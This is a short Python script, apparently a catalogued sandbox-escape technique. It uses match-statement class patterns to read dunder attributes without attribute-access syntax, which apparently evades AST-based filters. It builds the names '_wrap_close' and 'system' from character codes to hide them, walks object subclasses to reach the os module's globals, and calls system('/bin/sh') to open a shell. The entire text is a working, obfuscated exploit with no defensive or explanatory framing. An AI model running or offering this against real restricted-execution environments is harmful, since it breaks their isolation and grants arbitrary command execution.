# technique: match class patterns read dunder attributes without Attribute nodes; target names built from chr
want = "".join(map(chr, (95, 119, 114, 97, 112, 95, 99, 108, 111, 115, 101)))
fname = "".join(map(chr, (115, 121, 115, 116, 101, 109)))

match ():
    case object(__class__=object(__base__=object(__subclasses__=subs))):
        pass

for c in subs():
    match c:
        case type(__name__=n, __init__=object(__globals__=g)) if n == want:
            g[fname]("/bin/" + "sh")
            break
